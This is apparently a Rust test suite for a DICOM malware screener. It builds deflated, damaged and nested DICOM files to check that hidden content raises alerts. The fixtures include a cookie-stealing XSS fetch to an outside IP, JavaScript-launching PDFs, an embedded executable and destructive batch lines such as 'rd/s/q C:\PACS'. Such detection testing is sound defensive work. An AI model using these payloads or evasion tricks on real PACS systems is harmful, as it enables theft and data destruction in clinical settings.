//! Review finding: a deflated transfer syntax hid stored XSS. A web viewer inflates the
//! data set before it renders a text element, so markup there is as live as in an
//! uncompressed file. DCMTK's `dcmconv +td` writes the deflated file, as a modality or
//! router would.
#![allow(clippy::disallowed_methods)] // the test writes its fixture for dcmconv

use std::process::Command;

use pacsguard_dicom::{Format, inspect};
use pacsguard_events::FindingKind;
use pacsguard_testkit::DicomBuilder;

#[test]
fn script_in_a_deflated_data_set_is_found() {
    let script = b"<script>fetch('//198.51.100.7/?'+document.cookie)</script>";
    let plain = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.20.1")
        .without_pixels()
        .element(0x0040, 0x0280, *b"ST", script)
        .build();
    let dir = tempfile::tempdir().expect("tempdir");
    let (input, output) = (
        dir.path().join("plain.dcm"),
        dir.path().join("deflated.dcm"),
    );
    std::fs::write(&input, &plain).expect("write");
    let converted = Command::new("dcmconv")
        .arg("+td")
        .arg(&input)
        .arg(&output)
        .output()
        .unwrap_or_else(missing("dcmconv"));
    assert!(
        converted.status.success(),
        "dcmconv: {}",
        String::from_utf8_lossy(&converted.stderr)
    );
    let deflated = std::fs::read(&output).expect("read");
    assert!(
        !deflated.windows(8).any(|w| w == b"<script>"),
        "the script is only in the compressed bytes"
    );
    let found = inspect(&deflated);
    assert!(
        found
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::ActiveContent && o.format == Some(Format::Html)),
        "{:#?}",
        found.observations
    );
}

/// The panic of a DCMTK program that could not be run, naming it and how to install it.
/// The fixtures are real programs' output: without DCMTK the tests fail
/// (scripts/setup-test-deps.sh installs it) rather than pass having tested nothing
/// (review rv34-screen: they returned early, passing).
fn missing(program: &str) -> impl FnOnce(std::io::Error) -> std::process::Output + '_ {
    move |e| panic!("{program}: {e}: run scripts/setup-test-deps.sh (Debian package dcmtk)")
}

/// `plain` deflated by DCMTK's `dcmconv +td`.
fn deflated_by_dcmconv(plain: &[u8]) -> Vec<u8> {
    let dir = tempfile::tempdir().expect("tempdir");
    let (input, output) = (dir.path().join("in.dcm"), dir.path().join("out.dcm"));
    std::fs::write(&input, plain).expect("write");
    let converted = Command::new("dcmconv")
        .arg("+td")
        .arg(&input)
        .arg(&output)
        .output()
        .unwrap_or_else(missing("dcmconv"));
    assert!(
        converted.status.success(),
        "dcmconv: {}",
        String::from_utf8_lossy(&converted.stderr)
    );
    std::fs::read(&output).expect("read")
}

fn has_alert(observations: &[pacsguard_dicom::Observation], kind: FindingKind) -> bool {
    observations
        .iter()
        .any(|o| o.kind == kind && o.severity == pacsguard_events::Severity::Alert)
}

/// Issue 10, class 4: bytes after the end of a deflate stream (which no DICOM reader
/// looks at) are searched, and a deflated data set cut short is searched as far as it
/// inflates. A real PE (pip's launcher) appended to a file DCMTK deflated, and one in a
/// private element of a deflated data set cut off after it.
#[test]
fn what_follows_or_breaks_a_deflate_stream_is_still_searched() {
    let pe = pacsguard_testkit::real_pe();
    let clean = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.20.2")
        .without_pixels()
        .build();
    let mut appended = deflated_by_dcmconv(&clean);
    appended.extend_from_slice(&pe);
    let found = inspect(&appended);
    assert!(
        has_alert(&found.observations, FindingKind::EmbeddedExecutable),
        "{:#?}",
        found.observations
    );
    // Random bytes after the PE: incompressible, so the cut falls inside them.
    let mut noise = vec![0u8; 200_000];
    let mut x = 0x9E37_79B9u32;
    for b in &mut noise {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        *b = x as u8;
    }
    let hidden = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.20.3")
        .without_pixels()
        .element(0x0009, 0x0010, *b"LO", b"VENDOR")
        .element(0x0009, 0x1000, *b"OB", &pe)
        .element(0x0011, 0x0010, *b"LO", b"VENDOR")
        .element(0x0011, 0x1000, *b"OB", &noise)
        .build();
    let deflated = deflated_by_dcmconv(&hidden);
    let cut = &deflated[..deflated.len() - 100_000];
    let found = inspect(cut);
    assert!(
        has_alert(&found.observations, FindingKind::EmbeddedExecutable),
        "{:#?}",
        found.observations
    );
    assert!(
        found
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::MalformedDicom && o.detail.contains("inflate")),
        "{:#?}",
        found.observations
    );
}

/// `deflated` inflated back by DCMTK's `dcmconv +te` (Explicit VR Little Endian), as a
/// receiver that stores what it is sent uncompressed writes it.
fn reencoded_by_dcmconv(deflated: &[u8]) -> Vec<u8> {
    let dir = tempfile::tempdir().expect("tempdir");
    let (input, output) = (dir.path().join("in.dcm"), dir.path().join("out.dcm"));
    std::fs::write(&input, deflated).expect("write");
    let converted = Command::new("dcmconv")
        .arg("+te")
        .arg(&input)
        .arg(&output)
        .output()
        .unwrap_or_else(missing("dcmconv"));
    assert!(converted.status.success(), "dcmconv +te");
    std::fs::read(&output).expect("read")
}

/// Review r28-screen: of the readers of the whole file, only the HTML one read the
/// inflated data set. A PDF in a private element, its header past the element's first
/// kilobyte (qpdf and mutool open the file by repairing it), raised an alert in an
/// uncompressed file and nothing at all (exit 0) deflated; once a receiver re-encodes
/// the data set uncompressed (`dcmconv +te`), qpdf opens the stored file and shows the
/// script. The inflated data set is read by every reader of the whole file now.
#[test]
fn a_pdf_only_a_repairing_reader_opens_is_found_in_a_deflated_data_set() {
    let mut pdf = vec![b' '; 1500];
    pdf.extend_from_slice(
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript \
          /JS (app.alert\\('deflated'\\)) >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] \
          /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
    );
    let plain = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.20.4")
        .without_pixels()
        .element(0x0009, 0x0010, *b"LO", b"VENDOR")
        .element(0x0009, 0x1000, *b"OB", &pdf)
        .build();
    let deflated = deflated_by_dcmconv(&plain);
    assert!(memchr::memmem::find(&deflated, b"%PDF-").is_none());
    let stored = reencoded_by_dcmconv(&deflated);
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("stored.dcm"), &stored).expect("write");
    if let Ok(shown) = Command::new("qpdf")
        .arg("--show-object=1")
        .arg(dir.path().join("stored.dcm"))
        .output()
    {
        assert!(
            String::from_utf8_lossy(&shown.stdout).contains("/JavaScript"),
            "qpdf opens the stored file: {}",
            String::from_utf8_lossy(&shown.stderr)
        );
    }
    for (name, file) in [("stored", &stored), ("deflated", &deflated)] {
        let found = inspect(file);
        assert!(
            found
                .observations
                .iter()
                .any(|o| o.kind == FindingKind::ActiveContent
                    && o.severity == pacsguard_events::Severity::Alert
                    && o.detail.contains("app.alert('deflated')")),
            "{name}: {:#?}",
            found.observations
        );
    }
}

/// Review r29-screen: the encapsulated documents of a deflated data set were placed by
/// their offsets in the inflated data set, and those ranges were applied to the file's
/// own bytes, where the PDF reader of the whole file left them alone as "the document
/// itself". A PDF appended after the deflate stream of a file DCMTK deflated, whose
/// catalog and script sat at file offsets inside the encapsulated report's inflated
/// range, was exit 0 though qpdf and mutool open the file and show the script. Now a
/// document of the inflated data set is placed in the inflated data set only.
#[test]
fn a_deflated_documents_place_hides_nothing_in_the_files_own_bytes() {
    // A benign report long enough that its inflated range covers all of the file.
    let mut report = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n".to_vec();
    report.extend(std::iter::repeat_n(b' ', 100_000));
    report.extend_from_slice(b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
    let plain = DicomBuilder::encapsulated_pdf("1.2.826.0.1.3680043.10.1137.20.5", &report).build();
    let mut file = deflated_by_dcmconv(&plain);
    let appended_at = file.len();
    file.extend_from_slice(
        b"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript \
          /JS (app.alert\\('past the range'\\)) >> >>\nendobj\n2 0 obj\n<< /Type /Pages \
          /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
    );
    let inspection = inspect(&file);
    let document = &inspection.documents[0];
    assert!(
        document.in_inflated_data_set
            && document.offset < appended_at as u64
            && document.offset + document.bytes.len() as u64 > file.len() as u64,
        "the report's inflated range covers the appended PDF"
    );
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("appended.dcm"), &file).expect("write");
    if let Ok(shown) = Command::new("qpdf")
        .arg("--show-object=1")
        .arg(dir.path().join("appended.dcm"))
        .output()
    {
        assert!(
            String::from_utf8_lossy(&shown.stdout).contains("past the range"),
            "qpdf opens the file: {}",
            String::from_utf8_lossy(&shown.stderr)
        );
    }
    assert!(
        inspection
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::ActiveContent
                && o.severity == pacsguard_events::Severity::Alert
                && o.detail.contains("app.alert('past the range')")),
        "{:#?}",
        inspection.observations
    );
}

/// `file`'s Encapsulated Document taken out by DCMTK's `dcm2pdf`, as a PACS user saving
/// the document does.
fn extracted_by_dcm2pdf(file: &[u8]) -> Vec<u8> {
    let dir = tempfile::tempdir().expect("tempdir");
    let (input, output) = (dir.path().join("in.dcm"), dir.path().join("out.bin"));
    std::fs::write(&input, file).expect("write");
    let extracted = Command::new("dcm2pdf")
        .arg(&input)
        .arg(&output)
        .output()
        .unwrap_or_else(missing("dcm2pdf"));
    assert!(
        extracted.status.success(),
        "dcm2pdf: {}",
        String::from_utf8_lossy(&extracted.stderr)
    );
    std::fs::read(&output).expect("read")
}

/// An encapsulated document instance holding `file`, its length given (0042,0015) so
/// that dcm2pdf takes out exactly `file`, not its padding.
fn holding(sop_instance: &str, file: &[u8]) -> Vec<u8> {
    let length = u32::try_from(file.len()).expect("small").to_le_bytes();
    DicomBuilder::encapsulated_pdf(sop_instance, file)
        .element(0x0042, 0x0015, *b"UL", &length)
        .build()
}

/// Review r29-screen2: a DICOM file held as the value of an element of another is read
/// as one once taken out (dcm2pdf extracts it, dcmdump and dcm2pdf open it). A deflated
/// encapsulated PDF with a script, stored as the Encapsulated Document of an uncompressed
/// one, was exit 0: the value's bytes were searched as they are, compressed, and its data
/// set never inflated. Now a value that opens as a Part 10 file is screened as one, to
/// MAX_NESTED_DICOM_DEPTH files deep, and deeper is a warning.
#[test]
fn a_dicom_file_held_in_a_value_is_screened_as_a_dicom_file() {
    let pdf = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript \
          /JS (app.alert\\('nested'\\)) >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] \
          /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
    let inner = DicomBuilder::encapsulated_pdf("1.2.826.0.1.3680043.10.1137.20.6", pdf).build();
    let mut deflated = deflated_by_dcmconv(&inner);
    assert!(memchr::memmem::find(&deflated, b"%PDF-").is_none());
    // dcm2pdf takes the last byte of an even-length document for padding unless it ends
    // a line, as a PDF does: ended so, what it takes out is the file as held.
    deflated.resize(deflated.len() + 2 - deflated.len() % 2, b'\n');
    let outer = holding("1.2.826.0.1.3680043.10.1137.20.7", &deflated);
    // Live: what dcm2pdf takes out of the outer file is the deflated file, and dcm2pdf
    // takes the scripted PDF out of that (what follows a deflate stream is ignored).
    let taken_out = extracted_by_dcm2pdf(&outer);
    assert_eq!(taken_out, deflated);
    let shown = extracted_by_dcm2pdf(&taken_out);
    assert!(memchr::memmem::find(&shown, b"app.alert").is_some());

    let nested_alert = |file: &[u8]| {
        inspect(file).observations.iter().any(|o| {
            o.kind == FindingKind::ActiveContent
                && o.severity == pacsguard_events::Severity::Alert
                && o.detail.contains("app.alert('nested')")
        })
    };
    assert!(nested_alert(&outer), "{:#?}", inspect(&outer).observations);

    // Nested as deep as screened, then one deeper: a warning that says it stopped.
    let mut file = deflated;
    for level in 1..=pacsguard_dicom::MAX_NESTED_DICOM_DEPTH {
        file = holding(&format!("1.2.826.0.1.3680043.10.1137.21.{level}"), &file);
    }
    assert!(nested_alert(&file), "{:#?}", inspect(&file).observations);
    let deeper = holding("1.2.826.0.1.3680043.10.1137.22", &file);
    let found = inspect(&deeper);
    assert!(
        found
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::NotInspected
                && o.severity == pacsguard_events::Severity::Warning
                && o.detail.contains("MAX_NESTED_DICOM_DEPTH")),
        "{:#?}",
        found.observations
    );
}

/// Review r30-screen2: past MAX_NESTED_DICOM_DEPTH a held DICOM file was only warned
/// about, and its bytes were not kept for the site's YARA rules and hash lists: a
/// known-bad file held one level deeper than read matched no hash. Now its bytes are kept
/// as a nested file (its data set still not read, the warning still given), so a hash
/// list entry for it matches wherever it is held.
#[test]
fn a_dicom_file_held_past_the_depth_limit_is_kept_for_the_hash_lists() {
    let deepest =
        DicomBuilder::encapsulated_pdf("1.2.826.0.1.3680043.10.1137.23.0", b"%PDF-1.7\n%%EOF\n")
            .build();
    let mut file = deepest.clone();
    for level in 1..=pacsguard_dicom::MAX_NESTED_DICOM_DEPTH + 1 {
        file = holding(&format!("1.2.826.0.1.3680043.10.1137.23.{level}"), &file);
    }
    let found = inspect(&file);
    assert!(
        found
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::NotInspected
                && o.detail.contains("MAX_NESTED_DICOM_DEPTH")),
        "{:#?}",
        found.observations
    );
    let held_deepest = found
        .nested_files
        .iter()
        .find(|n| n.bytes == deepest)
        .unwrap_or_else(|| {
            panic!(
                "the deepest file is not kept: {:#?}",
                found
                    .nested_files
                    .iter()
                    .map(|n| (&n.place, n.bytes.len()))
                    .collect::<Vec<_>>()
            )
        });
    // Where it lies in the file screened, as a hash-list hit says.
    let at = held_deepest.offset.expect("held uncompressed") as usize;
    assert_eq!(&file[at..at + deepest.len()], &deepest[..]);
    assert_eq!(
        found.nested_files.len(),
        pacsguard_dicom::MAX_NESTED_DICOM_DEPTH + 1
    );
}

/// Review rv34-screen (issue 10): the bytes after the damage of a real deflated data set
/// were read as binary bytes, so a deliberate break (a valid start, then a block of the
/// reserved type) hid the batch commands after it: `cmd /^c calc`, `rd/s/q C:\PACS`,
/// `cmd 1 2 3 /c calc` were only the `malformed-dicom` warning, a bare `evil.exe` a
/// warning. Whoever damaged the stream wrote every byte after the break: they are read
/// as text, every command an alert, and the damage is said.
#[test]
fn the_rest_of_a_deflated_data_set_damaged_mid_stream_is_read_as_text() {
    // Compressible, so that DCMTK writes Huffman blocks, which damage breaks.
    let pixels: Vec<u8> = (0..200_000u64)
        .map(|i| ((i * i / 7 + i / 13) % 23 + 65) as u8)
        .collect();
    let plain = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.34.10")
        .without_pixels()
        .element(0x0009, 0x0010, *b"LO", b"VENDOR")
        .element(0x0009, 0x1000, *b"OB", &pixels)
        .build();
    let deflated = deflated_by_dcmconv(&plain);
    // The deflate stream follows the meta group, whose length (0002,0000) gives.
    let meta_length = u32::from_le_bytes(deflated[140..144].try_into().expect("4 bytes"));
    let stream = 144 + meta_length as usize;
    let data_set = miniz_oxide::inflate::decompress_to_vec(&deflated[stream..]).expect("inflates");
    // A valid start: the data set's first 1,000 bytes in a stored block (as a deflater
    // writes bytes it cannot shrink), then a block header of the reserved type, which
    // inflate refuses.
    let mut broken = deflated[..stream].to_vec();
    broken.push(0x00); // a stored block, not the last
    broken.extend(1000u16.to_le_bytes());
    broken.extend((!1000u16).to_le_bytes());
    broken.extend(&data_set[..1000]);
    broken.push(0x07); // the last block, of the reserved type 3
    // DCMTK's own compressed bytes after the break, with the line in them, and the
    // reviewer's form: the line, then a line of control bytes (compressed-looking).
    let rest = &deflated[stream + 1000..];
    for command in [
        &b"cmd /^c calc"[..],
        b"rd/s/q C:\\PACS",
        b"cmd 1 2 3 /c calc",
        b"start/b \\\\evil\\x.exe",
        b"cmd /c calc",
        b"evil.exe",
    ] {
        let line = [&b"\r\n"[..], command, b"\r\n"].concat();
        let mut compressed_after = broken.clone();
        compressed_after.extend(&rest[..rest.len() - 40]);
        compressed_after.extend(&line);
        compressed_after.extend(&rest[rest.len() - 40..]);
        let mut controls_after = broken.clone();
        controls_after.extend(&line);
        controls_after.extend([&b"\r\n"[..], &[0x01; 40], b"\r\n"].concat());
        for file in [compressed_after, controls_after] {
            let found = inspect(&file);
            let shown = String::from_utf8_lossy(command);
            assert!(
                found
                    .observations
                    .iter()
                    .any(|o| o.format == Some(Format::Batch)
                        && o.severity == pacsguard_events::Severity::Alert),
                "{shown}: {:#?}",
                found.observations
            );
            assert!(
                found
                    .observations
                    .iter()
                    .any(|o| o.kind == FindingKind::MalformedDicom
                        && o.detail.contains("damaged")
                        && o.detail.contains("as text")),
                "{:#?}",
                found.observations
            );
        }
    }
}
